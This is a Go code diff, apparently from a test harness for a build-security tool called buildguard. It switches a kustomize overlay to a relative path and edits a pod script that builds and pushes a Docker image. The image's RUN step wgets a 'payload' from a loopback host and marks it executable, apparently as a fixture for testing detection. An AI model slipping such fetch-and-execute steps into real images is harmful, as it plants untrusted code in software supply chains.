@@ -120,6 +120,11 @@ func (n *Node) Install(ctx context.Context, kubectl KubectlFunc, img *ImageBuild
 	if !ok {
 		return fmt.Errorf("image %s is not pinned by digest", img.Ref)
 	}
+	// kustomize takes a relative path only.
+	overlay, err := filepath.Rel(dir, filepath.Join(n.root, "manifests", "overlays", "postgres"))
+	if err != nil {
+		return err
+	}
 	kust := fmt.Sprintf(`# buildguard from its repository, with the PostgreSQL store, pinned by digest.
 apiVersion: kustomize.config.k8s.io/v1beta1
 kind: Kustomization
@@ -129,7 +134,7 @@ images:
   - name: ghcr.io/buildguard/buildguard
     newName: %s
     digest: %s
-`, filepath.Join(n.root, "manifests", "overlays", "postgres"), ImageRepo, digest)
+`, overlay, ImageRepo, digest)
 	if err := os.WriteFile(filepath.Join(dir, "kustomization.yaml"), []byte(kust), 0o644); err != nil {
 		return err
 	}
@@ -214,7 +219,7 @@ spec:
     - sh
     - -c
     - |
-      printf 'FROM %[3]s\nRUN wget -O /usr/bin/p http://127.0.0.23:%[4]d/payload && chmod +x /usr/bin/p\n' > /tmp/Dockerfile
+      printf 'FROM %[3]s\nRUN wget -O /bin/payload http://127.0.0.23:%[4]d/payload && chmod +x /bin/payload\n' > /tmp/Dockerfile
       docker build --network host -t "$IMG" -f /tmp/Dockerfile /tmp && docker push "$IMG"
     volumeMounts: [{name: docker, mountPath: /var/run/docker.sock}]
   volumes:
